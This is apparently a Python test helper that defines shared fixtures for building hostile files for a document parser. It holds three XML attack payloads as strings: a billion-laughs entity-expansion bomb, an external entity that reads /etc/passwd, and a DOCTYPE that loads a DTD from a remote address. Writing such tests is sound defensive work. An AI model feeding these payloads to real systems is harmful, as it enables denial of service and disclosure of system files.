"""What the makers of hostile files share."""

from __future__ import annotations

from collections.abc import Callable

from tests.paths import ROOT

FIXTURES = ROOT / "fixtures"
FORMATS = FIXTURES / "formats"
OFD = FIXTURES / "ofd" / "libreoffice_print.ofd"
NOTHING = 0xFFFFFFFF

Maker = Callable[[], bytes]

LAUGHS = (
    '<!DOCTYPE d [<!ENTITY a "hahahahaha">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)
OUTSIDE = '<!DOCTYPE d [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE d SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY j "x">]>'
